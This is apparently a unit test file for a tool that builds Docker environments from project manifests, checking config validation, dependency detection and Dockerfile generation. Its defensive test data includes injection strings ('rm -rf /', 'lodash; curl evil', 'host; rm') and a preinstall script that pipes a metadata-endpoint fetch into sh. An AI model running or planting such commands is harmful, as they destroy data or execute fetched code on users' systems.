// Pure logic of environments: warmbox.json's checks (and the schema editors use), detection, the plan and its hash.
import { strict as assert } from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { LineAssembler, shortError } from '../../../daemon/environments/build';
import { detect, kindOf, ManifestError } from '../../../daemon/environments/detect';
import { planEnvironment } from '../../../daemon/environments/dockerfile';
import { EMPTY_PROJECT_FILE, ITEM_PATTERNS, parseProjectFile, ProjectFileError, readProjectFile } from '../../../daemon/environments/projectFile';
import { ProjectRegistry } from '../../../daemon/workspace/registry';

const ROOT = path.resolve(__dirname, '../../../..');
const PY = { name: 'python', command: ['python3', '{file}'] };
const NODE = { name: 'node', command: ['node', '{file}'] };
const BASE = { name: 'warmbox/python:2', id: 'sha256:' + 'a'.repeat(64) };

/** The folders project() made, removed when the file's tests end. */
const made: string[] = [];
after(() => {
  for (const d of made.splice(0)) fs.rmSync(d, { recursive: true, force: true });
});

function project(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'wb-envunit-'));
  made.push(dir);
  for (const [rel, body] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), body);
  }
  return dir;
}

describe('environments: warmbox.json', () => {
  it('reads the issue\'s example', () => {
    const f = parseProjectFile({
      exclude: ['data/raw/**'],
      profiles: { python: { apt: ['python3-numpy'], pip: ['rich==13.7.1'], preload: ['numpy'] }, node: { npm: ['lodash@4'] } },
    });
    assert.deepEqual(f.exclude, ['data/raw/**']);
    assert.deepEqual(f.profiles.python, { apt: ['python3-numpy'], pip: ['rich==13.7.1'], npm: [], preload: ['numpy'] });
    assert.deepEqual(f.profiles.node.npm, ['lodash@4']);
  });

  it('names the field of each mistake', () => {
    const err = (raw: unknown) => {
      try {
        parseProjectFile(raw);
      } catch (e) {
        assert.ok(e instanceof ProjectFileError);
        return e.message;
      }
      assert.fail('accepted');
    };
    assert.match(err({ profiles: { python: { apt: ['ok', 'rm -rf /'] } } }), /^profiles\.python\.apt\[1\] "rm -rf \/" is not a Debian package name/);
    assert.match(err({ profiles: { python: { pip: 'rich' } } }), /^profiles\.python\.pip must be an array/);
    assert.match(err({ profiles: { python: { apk: [] } } }), /^profiles\.python\.apk is not a profile field \(known: apt, pip, npm, preload\)/);
    assert.match(err({ excludes: [] }), /^"excludes" is not a warmbox.json field/);
    assert.match(err({ exclude: [3] }), /^exclude\[0\] must be a string/);
    assert.match(err({ profiles: { Python: {} } }), /^profiles\.Python: a profile name/);
    assert.match(err({ profiles: { node: { npm: ['lodash; curl evil'] } } }), /^profiles\.node\.npm\[0\]/);
  });

  it('reads the file at the root: none is empty, broken JSON names the file', () => {
    assert.deepEqual(readProjectFile(project({})), { exclude: [], profiles: {} });
    const dir = project({ 'warmbox.json': '{"exclude": [' });
    assert.throws(() => readProjectFile(dir), (e: Error) => e instanceof ProjectFileError && e.message.startsWith(path.join(dir, 'warmbox.json')) && /not valid JSON/.test(e.message));
    // Where, as an editor counts: line and column, not Node's character offset.
    const comma = project({ 'warmbox.json': '{\n  "profiles": {\n    "python": { "pip": ["rich"], }\n  }\n}\n' });
    assert.throws(() => readProjectFile(comma), (e: Error) => e.message === `${path.join(comma, 'warmbox.json')} is not valid JSON: Expected double-quoted property name at line 3, column 34`);
    const pkg = project({ 'package.json': '{"dependencies": {"lodash": "4"}\n,,}' });
    assert.throws(() => detect(pkg, { name: 'node', command: ['node', '{file}'] }, EMPTY_PROJECT_FILE), /^Error: package\.json is not valid JSON: .* at line 2, column 2$/);
  });

  it('the JSON Schema editors get says what the daemon checks', () => {
    const schema = JSON.parse(fs.readFileSync(path.join(ROOT, 'schemas/warmbox.schema.json'), 'utf8'));
    const props = schema.definitions.profile.properties;
    assert.deepEqual(Object.keys(props).sort(), Object.keys(ITEM_PATTERNS).sort());
    for (const [k, re] of Object.entries(ITEM_PATTERNS)) assert.equal(new RegExp(props[k].allOf[1].items.pattern).source, re.source, k);
    assert.deepEqual(Object.keys(schema.properties).sort(), ['$schema', 'exclude', 'profiles']);
    const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8'));
    assert.deepEqual(pkg.contributes.jsonValidation, [{ fileMatch: 'warmbox.json', url: './schemas/warmbox.schema.json' }]);
  });

  it('its exclude globs shape the project copy (one reader: the workspace registry uses it)', async () => {
    const root = project({ 'warmbox.json': '{"exclude": ["data/raw/**"]}', 'data/raw/big.csv': 'x', 'data/ok.csv': 'y', 'main.py': '' });
    const reg = new ProjectRegistry(() => ({ exclude: [] }));
    const { copy } = reg.get({ root, file: 'main.py' });
    const snap = await copy.snapshot();
    reg.closeAll();
    assert.ok(snap.entries.has('data/ok.csv'));
    assert.ok(!snap.entries.has('data/raw/big.csv'));
  });
});

describe('environments: detection', () => {
  it('tells the profile kind by its command', () => {
    assert.equal(kindOf(['python3', '{file}']), 'python');
    assert.equal(kindOf(['/usr/bin/python3.11', '-u']), 'python');
    assert.equal(kindOf(['node', '{file}']), 'node');
    assert.equal(kindOf(['sh', '{file}']), 'other');
  });

  it('nothing to install: no environment', () => {
    assert.equal(detect(project({ 'main.py': '' }), PY, { exclude: [], profiles: {} }), undefined);
    // Python manifests do not make a Node environment, and the other way round.
    assert.equal(detect(project({ 'requirements.txt': 'rich\n' }), NODE, { exclude: [], profiles: {} }), undefined);
    assert.equal(detect(project({ 'package.json': '{}' }), PY, { exclude: [], profiles: {} }), undefined);
  });

  it('requirements.txt with the files it names; pyproject.toml\'s [project].dependencies', () => {
    const root = project({
      'requirements.txt': '--no-index\n-r more.txt\n./wheels/a-1.0-py3-none-any.whl  # local\nrich==13.7.1\n',
      'more.txt': 'dist/b-2.0.tar.gz\n',
      'wheels/a-1.0-py3-none-any.whl': 'A',
      'dist/b-2.0.tar.gz': 'B',
      'pyproject.toml': '[project]\nname = "x"\ndependencies = ["numpy>=1.24", "requests"]\n',
    });
    const r = detect(root, PY, { exclude: [], profiles: {} })!;
    assert.deepEqual(r.requirements, { file: 'requirements.txt', refs: ['more.txt', 'dist/b-2.0.tar.gz', 'wheels/a-1.0-py3-none-any.whl'] });
    assert.deepEqual(r.pyprojectDeps, ['numpy>=1.24', 'requests']);
    assert.deepEqual([...r.files.keys()].sort(), ['dist/b-2.0.tar.gz', 'more.txt', 'requirements.txt', 'wheels/a-1.0-py3-none-any.whl']);
  });

  it('requirements.txt installing the project itself (-e .): left out of the build\'s copy and said, not a failed pip', () => {
    const root = project({ 'requirements.txt': '-e .\nrich==13.7.1\n--editable=./  # the project\n', 'pyproject.toml': '[project]\nname = "x"\ndependencies = ["requests"]\n' });
    const r = detect(root, PY, EMPTY_PROJECT_FILE)!;
    assert.deepEqual(r.requirements?.leftOut, ['-e .', '--editable=./']);
    assert.equal(r.files.get('requirements.txt')!.toString(), 'rich==13.7.1\n');
    const plan = planEnvironment('python', BASE, r);
    assert.equal(plan.files.get('project/requirements.txt')!.toString(), 'rich==13.7.1\n');
    assert.equal(plan.summary, "pip -r requirements.txt (without -e ., --editable=./: the project's own code is in /work at each run); pyproject.toml: 1 dependency");
  });

  it('a requirement outside the project, a missing wheel, broken TOML: errors that say which', () => {
    assert.throws(() => detect(project({ 'requirements.txt': '../x.whl\n' }), PY, { exclude: [], profiles: {} }), (e: Error) => e instanceof ManifestError && /outside the project/.test(e.message));
    assert.throws(() => detect(project({ 'requirements.txt': './gone.whl\n' }), PY, { exclude: [], profiles: {} }), (e: Error) => e instanceof ManifestError && /cannot read gone\.whl/.test(e.message));
    assert.throws(() => detect(project({ 'pyproject.toml': '[project\n' }), PY, { exclude: [], profiles: {} }), (e: Error) => e instanceof ManifestError && /^pyproject\.toml: /.test(e.message));
  });

  it('package.json: npm ci with a lockfile, npm install without', () => {
    assert.deepEqual(detect(project({ 'package.json': '{}', 'package-lock.json': '{}' }), NODE, { exclude: [], profiles: {} })!.packageJson, { lock: 'package-lock.json' });
    assert.deepEqual(detect(project({ 'package.json': '{}' }), NODE, { exclude: [], profiles: {} })!.packageJson, { lock: undefined });
    const plan = planEnvironment('node', BASE, detect(project({ 'package.json': '{}' }), NODE, { exclude: [], profiles: {} })!);
    assert.ok(plan.steps.includes('npm install'));
    assert.ok(!plan.steps.includes('npm ci'));
  });

  it("package.json's own lifecycle scripts never run in the build (root, network): the build context's copy has none", () => {
    // npm install/ci at the root runs the project's preinstall/install/postinstall/prepare: the project's own code, as
    // root, with the build's network. The build only needs the dependencies; the packages' own scripts still run.
    const pkg = { name: 'p', version: '1.0.0', scripts: { preinstall: 'curl http://169.254.169.254/ | sh', postinstall: 'node main.js', prepare: 'x' }, dependencies: { a: '1' } };
    const variants: Record<string, string>[] = [{ 'package.json': JSON.stringify(pkg) }, { 'package.json': JSON.stringify(pkg), 'package-lock.json': '{}' }];
    for (const files of variants) {
      const plan = planEnvironment('node', BASE, detect(project(files), NODE, { exclude: [], profiles: {} })!);
      const copied = JSON.parse(plan.files.get('project/package.json')!.toString());
      assert.equal(copied.scripts, undefined);
      assert.deepEqual(copied.dependencies, pkg.dependencies);
    }
  });
});

describe('environments: the generated Dockerfile', () => {
  const req = (files: Record<string, string>, lists = {}) =>
    detect(project(files), PY, { exclude: [], profiles: { python: { apt: [], pip: [], npm: [], preload: [], ...lists } } })!;

  it('puts warmbox\'s runtime (PID 1) back from the base image after every installer, which ran as root', () => {
    for (const plan of [
      planEnvironment('python', BASE, req({ 'requirements.txt': 'rich\n' }, { apt: ['python3-numpy'] })),
      planEnvironment('node', BASE, detect(project({ 'package.json': '{"dependencies":{"x":"1"}}' }), NODE, { exclude: [], profiles: {} })!),
    ]) {
      const lines = plan.dockerfile.trim().split('\n');
      const restore = lines.indexOf(`COPY --from=${BASE.id} /opt/warmbox /opt/warmbox`);
      assert.ok(restore > 0, plan.dockerfile);
      assert.equal(lines[restore - 1], 'RUN rm -rf /opt/warmbox');
      assert.ok(lines.slice(restore + 1).every((l) => !l.startsWith('RUN ') && !l.startsWith('COPY ')), `nothing runs after the runtime is put back:\n${plan.dockerfile}`);
    }
  });

  it('tag and hash: same input same tag; a manifest, a list or the base image changes it; the CA bundle does not', () => {
    const a = planEnvironment('python', BASE, req({ 'requirements.txt': 'rich\n' }));
    assert.match(a.tag, /^warmbox\/env-python-[0-9a-f]{12}:latest$/);
    assert.equal(planEnvironment('python', BASE, req({ 'requirements.txt': 'rich\n' })).tag, a.tag);
    assert.notEqual(planEnvironment('python', BASE, req({ 'requirements.txt': 'rich==1\n' })).tag, a.tag);
    assert.notEqual(planEnvironment('python', BASE, req({ 'requirements.txt': 'rich\n' }, { apt: ['python3-numpy'] })).tag, a.tag);
    assert.notEqual(planEnvironment('python', { ...BASE, id: 'sha256:' + 'b'.repeat(64) }, req({ 'requirements.txt': 'rich\n' })).tag, a.tag);
    assert.equal(planEnvironment('python', BASE, req({ 'requirements.txt': 'rich\n' }), Buffer.from('-----BEGIN CERTIFICATE-----')).tag, a.tag);
  });

  it('installs as root during the build, from files (never list items in shell lines), compiles bytecode, ends as /work', () => {
    const p = planEnvironment('python', BASE, req({ 'requirements.txt': 'rich\n' }, { apt: ['python3-numpy'], pip: ['rich==13.7.1'] }));
    const lines = p.dockerfile.trim().split('\n');
    assert.equal(lines[0], `FROM ${BASE.id}`);
    assert.equal(lines[1], 'USER root');
    assert.match(p.dockerfile, /apt-get install -y -q --no-install-recommends python3-numpy/);
    assert.match(p.dockerfile, /pip install -r \/opt\/warmbox\/build\/warmbox-pip.txt/);
    assert.ok(!p.dockerfile.includes('rich==13.7.1'));
    assert.equal(p.files.get('warmbox-pip.txt')!.toString(), 'rich==13.7.1\n');
    assert.match(p.dockerfile, /compileall/);
    assert.match(p.dockerfile, /ENV MPLBACKEND=module:\/\/warmbox_mpl/);
    // The image defines no user: the sandbox runs the program as its own uid; the last steps leave /work and labels.
    assert.ok(!/^USER (?!root)/m.test(p.dockerfile));
    assert.equal(lines[lines.length - 2], 'WORKDIR /work');
    assert.match(lines[lines.length - 1], /^LABEL dev\.warmbox\.env="true"/);
    assert.equal(p.steps.length, lines.length);
  });
});

describe('environments: settings and requests', () => {
  it('config: buildNetwork (WARMBOX_BUILD_NETWORK over the file), whileBuilding, keepEnvironments; bad values named', async () => {
    const { buildConfig, ConfigError } = await import('../../../daemon/config');
    assert.deepEqual(buildConfig({}, {}).environments, { buildNetwork: undefined, whileBuilding: 'wait', keepUnused: 5, buildTimeoutMs: 30 * 60_000 });
    assert.equal(buildConfig({ buildNetwork: 'host' }, {}).environments.buildNetwork, 'host');
    assert.equal(buildConfig({ buildNetwork: 'host' }, { WARMBOX_BUILD_NETWORK: 'default' }).environments.buildNetwork, undefined);
    assert.equal(buildConfig({ whileBuilding: 'base', keepEnvironments: 0 }, {}).environments.whileBuilding, 'base');
    assert.throws(() => buildConfig({ buildNetwork: 'host; rm' }, {}), (e: Error) => e instanceof ConfigError && /^buildNetwork must be a Docker network name/.test(e.message));
    assert.throws(() => buildConfig({ whileBuilding: 'later' }, {}), /whileBuilding must be "wait" or "base"/);
    assert.equal(buildConfig({}, {}).maxSandboxes, 12);
  });

  it('requests: whileBuilding, env/build, env/remove and env/prune params are checked', async () => {
    const v = await import('../../../daemon/validate');
    assert.equal(v.runStartParams({ profile: 'python', code: '', whileBuilding: 'base' }).whileBuilding, 'base');
    assert.throws(() => v.runStartParams({ profile: 'python', code: '', whileBuilding: 'now' }), /whileBuilding must be "wait" or "base"/);
    assert.throws(() => v.envBuildParams({ root: 'relative/dir' }), /root must be an absolute folder/);
    assert.deepEqual(v.envBuildParams({ root: '/p', profile: 'python', noCache: true }), { root: '/p', profile: 'python', noCache: true });
    assert.throws(() => v.envRemoveParams({ image: 'debian:12' }), /image must be an environment image/);
    assert.equal(v.envRemoveParams({ image: 'warmbox/env-python-0123456789ab:latest' }).image, 'warmbox/env-python-0123456789ab:latest');
    assert.throws(() => v.envPruneParams({ keep: -1 }), /keep must be a number/);
  });

  it('build output: lines put together across Docker\'s messages; the failed step\'s shell line left out of the error', () => {
    // As the engine sent apt's error for a missing package: one line in three stream messages.
    const a = new LineAssembler();
    const got = [...a.push('Reading package lists...\n'), ...a.push('E'), ...a.push(':'), ...a.push(' Unable to locate package no-such-pkg-wb\n'), ...a.push('50%\r60%\r\nlast')];
    assert.deepEqual(got, ['Reading package lists...', 'E: Unable to locate package no-such-pkg-wb', '50%', '60%']);
    assert.deepEqual(a.flush(), ['last']);
    assert.deepEqual(a.flush(), []);
    assert.equal(shortError("The command '/bin/sh -c apt-get update -qq && apt-get install -y 'x'\n' returned a non-zero code: 100"), 'its command exited with code 100');
    assert.equal(shortError('failed to get layer'), 'failed to get layer');
  });
});
